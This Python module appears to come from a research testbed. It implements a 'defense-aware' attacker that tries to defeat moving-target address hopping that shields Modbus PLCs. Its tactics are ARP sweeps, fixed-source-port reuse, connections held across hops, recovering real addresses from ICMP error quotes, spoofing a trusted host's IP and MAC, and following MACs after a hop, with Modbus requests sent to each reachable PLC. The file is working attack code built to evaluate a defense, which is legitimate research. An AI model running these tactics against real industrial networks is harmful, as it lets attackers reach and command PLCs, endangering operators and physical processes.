"""The ``aware`` attacker: knows how the moving-target defenses work and tries each tactic.

    python -m attacks.attacker_aware --plan PLAN.json --targets 10.0.0.0/24 --out OUT.json \\
        --hop-interval-s 2 [--hop-jitter-s 0] [--timeout-s 1] [--max-spoof 3]

What it knows: the subnet and the published virtual pool (``--plan``), the hop interval and
jitter, that virtual MACs start with ``06:00:``, that conversations are bound to the address
they started on, that trusted hosts are recognised by their (IP, MAC). What it learns: every
other fact, from its own scans. Tactics, each recorded with its own attempts:

- ``pool_sweep``: ARP-sweep the pool; Modbus to every ``06:00:`` MAC the moment it answers.
- ``port_reuse``: connect-scan 502 from a fixed source port (closed with RST, as ``nmap -g``
  does), wait past a hop, connect again from the same port to the same address.
- ``keep_open``: keep a scan connection open across a hop, then send the read on it.
- ``icmp_quote``: UDP to a closed port of each address with 502 open; the ICMP error quotes
  the header the host received, i.e. its real address; Modbus to that address.
- ``spoof_authorized``: pose as a scanned host without 502 open (its IP and MAC) from the
  attacker's own switch port; Modbus to every 502 address and learned real address.
- ``mac_follow``: after a hop, sweep again and follow each MAC seen before to its new address.

The experiment decides from the PLCs' request logs which tactic reached a PLC.
"""

from __future__ import annotations

import argparse
import socket
import time
from collections.abc import Callable, Sequence
from functools import partial

from attacks.attacker_common import (
    AttackerOutcome,
    Attempt,
    Local,
    Reply,
    arp_sweep,
    attacker_parser,
    close_with_reset,
    local_interface,
    modbus_attempt,
    sweep_dispatch,
)
from attacks.attacker_fast import sweep_and_exploit
from attacks.attacker_tactics import icmp_quoted_address, spoofed_modbus
from common.cli import positive_float
from common.errors import UserError
from common.hostenv import AttackContext, run_attack, utc_now_iso
from common.modbus import MODBUS_PORT

TACTICS = ("pool_sweep", "port_reuse", "keep_open", "icmp_quote", "spoof_authorized",
           "mac_follow")
VIRTUAL_MAC_PREFIX = "06:00:"
FIXED_PORT_BASE = 21000
MAX_TARGETS = 16
# One responder's scan: (its reply, the scan socket when 502 was open, the socket kept open).
ScanResult = tuple[Reply, socket.socket | None, socket.socket | None]


def build_parser() -> argparse.ArgumentParser:
    p = attacker_parser("attacks.attacker_aware", "Defense-aware attacker: each tactic.")
    p.add_argument("--hop-interval-s", type=positive_float, required=True,
                   help="the defense's hop interval (the attacker knows it)")
    p.add_argument("--hop-jitter-s", type=float, default=0.0)
    p.add_argument("--max-spoof", type=int, default=3,
                   help="hosts to impersonate at most (1-8)")
    return p


def _validate(args: argparse.Namespace) -> None:
    if not 1 <= args.max_spoof <= 8:
        raise UserError(f"--max-spoof {args.max_spoof}: expected 1 to 8")
    if not 0 <= args.hop_jitter_s < args.hop_interval_s:
        raise UserError(f"--hop-jitter-s {args.hop_jitter_s:g}: expected 0 <= jitter < interval")
    if args.hop_interval_s > 600:
        raise UserError("--hop-interval-s: at most 600 (the attack waits past one hop)")


def _new_outcome(args: argparse.Namespace, targets: tuple[str, ...]) -> AttackerOutcome:
    return AttackerOutcome(attack="attacker_aware", model="aware", targets=list(targets),
                           started_at=utc_now_iso(),
                           tactics={t: {"targets": 0, "note": ""} for t in TACTICS})


def _connect(address: str, src_port: int, timeout_s: float
             ) -> tuple[socket.socket | None, str]:
    """A TCP connection to ``address``:502 from ``src_port`` (0: any), or (None, why not)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.settimeout(timeout_s)
    try:
        sock.bind(("", src_port))
        sock.connect((address, MODBUS_PORT))
        return sock, ""
    except OSError as exc:
        sock.close()
        return None, f"{type(exc).__name__}: {exc}"


class Aware:
    """One run of every tactic, in the order that lets later tactics use earlier findings."""

    def __init__(self, ctx: AttackContext) -> None:
        self.ctx = ctx
        self.out = ctx.outcome
        assert isinstance(self.out, AttackerOutcome)
        self.local: Local = local_interface(ctx.plan)
        self.pool = [a for a in ctx.plan.virtual_pool if a in set(ctx.targets)]
        self.timeout_s = ctx.args.timeout_s
        self.ports: dict[str, int] = {}

    def tactic(self, name: str, targets: int, note: str = "") -> None:
        self.out.tactics[name] = {"targets": targets, "note": note}

    def record(self, attempts: list[Attempt]) -> None:
        self.out.attempts.extend(a.to_dict() for a in attempts)

    def run(self) -> None:
        self.out.attack_start_unix_s = time.time()
        pooled = sweep_and_exploit(self.ctx, self.local, self.pool, "pool_sweep", 0,
                                   want=lambda r: r.mac.startswith(VIRTUAL_MAC_PREFIX))
        self.tactic("pool_sweep", len(pooled), "addresses with a 06:00: MAC")
        learned = self.icmp_quote([r["address"] for r in self.out.replies])
        scan_t = time.monotonic()
        first, open_502, kept, others = self.scan()
        self.spoof(others, open_502 + learned, first)
        wait_s = self.ctx.args.hop_interval_s + self.ctx.args.hop_jitter_s + 0.3
        time.sleep(max(0.0, scan_t + wait_s - time.monotonic()))
        self.after_hop(open_502, kept)
        self.mac_follow(first)

    def scan(self) -> tuple[list[Reply], list[str], dict[str, socket.socket], list[Reply]]:
        """ARP sweep; each responder, the moment it answers, connect-scanned on 502 from a
        fixed source port (closed with RST), and a second connection kept open. Returns
        (replies, addresses with 502 open, kept sockets, responders without 502)."""
        ports: dict[str, int] = {}

        def probe(r: Reply, port: int) -> ScanResult:
            sock, error = _connect(r.address, port, self.timeout_s)
            self.out.rounds.append({"scan": r.address, "src_port": port, "open": bool(sock),
                                    "t_unix_s": time.time(), "error": error})
            if sock is None:
                return r, None, None
            close_with_reset(sock)
            return r, sock, _connect(r.address, 0, self.timeout_s)[0]

        def task(r: Reply) -> Callable[[], ScanResult] | None:
            if len(ports) >= MAX_TARGETS:
                return None
            ports[r.address] = FIXED_PORT_BASE + len(ports)
            return partial(probe, r, ports[r.address])

        replies, results = sweep_dispatch(self.ctx.plan, self.local, self.ctx.targets,
                                          self.ctx.args.sweep_wait_s, task)
        self.out.replies.extend(r.to_dict(1) for r in replies)
        self.ports = ports
        open_502 = [r.address for r, s, _ in results if s is not None]
        kept = {r.address: k for r, s, k in results if s is not None and k is not None}
        others = [r for r, s, _ in results if s is None]
        return replies, open_502, kept, others

    def icmp_quote(self, responders: list[str]) -> list[str]:
        virtual = [a for a in dict.fromkeys(responders) if a in set(self.pool)]
        learned = []
        for address in virtual:
            quoted = icmp_quoted_address(self.ctx.plan, address, self.timeout_s)
            if quoted and quoted != address and quoted not in learned:
                learned.append(quoted)
        self.tactic("icmp_quote", len(learned),
                    f"{len(virtual)} virtual address(es) probed, real learned: "
                    f"{', '.join(learned) or 'none'}")
        self.record([modbus_attempt("icmp_quote", a, self.timeout_s) for a in learned])
        return learned

    def spoof(self, others: list[Reply], targets: list[str], replies: list[Reply]) -> None:
        macs = {r.address: r.mac for r in replies}
        candidates = [r for r in others if r.address not in set(self.pool)
                      and not r.mac.startswith(VIRTUAL_MAC_PREFIX)][:self.ctx.args.max_spoof]
        # A learned real address has no MAC of its own yet: the edge maps by IP, so the MAC
        # of the virtual address it was learned through (or the first PLC's) will do.
        fallback = next((macs[a] for a in targets if a in macs), "ff:ff:ff:ff:ff:ff")
        attempts = []
        for cand in candidates:
            for target in targets[:MAX_TARGETS]:
                attempts.append(spoofed_modbus(self.ctx.plan, self.local, cand.address,
                                               cand.mac, target, macs.get(target, fallback),
                                               self.timeout_s))
            if any(a.replied for a in attempts):
                break
        self.tactic("spoof_authorized", len(targets) if candidates else 0,
                    f"candidates: {', '.join(c.address for c in candidates) or 'none'}")
        self.record(attempts)

    def after_hop(self, open_502: list[str], kept: dict[str, socket.socket]) -> None:
        reuse = [modbus_attempt("port_reuse", a, self.timeout_s, src_port=self.ports[a])
                 for a in open_502]
        self.tactic("port_reuse", len(open_502), "same source port as the scan, after a hop")
        self.record(reuse)
        held = [modbus_attempt("keep_open", a, self.timeout_s, sock=s) for a, s in kept.items()]
        for s in kept.values():
            close_with_reset(s)
        self.tactic("keep_open", len(kept), "scan connection held across a hop")
        self.record(held)

    def mac_follow(self, before: list[Reply]) -> None:
        seen: dict[str, str] = {r.mac: r.address for r in before}
        now = arp_sweep(self.ctx.plan, self.local, self.ctx.targets,
                        self.ctx.args.sweep_wait_s)
        self.out.replies.extend(r.to_dict(2) for r in now)
        moved = [r for r in now if r.mac in seen and seen[r.mac] != r.address]
        self.tactic("mac_follow", len(moved),
                    ", ".join(f"{r.mac}: {seen[r.mac]} -> {r.address}" for r in moved)
                    or "no MAC seen at a new address")
        self.record([modbus_attempt("mac_follow", r.address, self.timeout_s,
                                    reply_unix_s=r.t_unix_s) for r in moved])


def _body(ctx: AttackContext) -> None:
    Aware(ctx).run()


def main(argv: Sequence[str] | None = None) -> int:
    """0 done (whatever was reached), 2 refused, 128+N stopped by signal N."""
    return run_attack(parser=build_parser(), argv=argv, new_outcome=_new_outcome, body=_body,
                      validate=_validate)




if __name__ == "__main__":
    raise SystemExit(main())
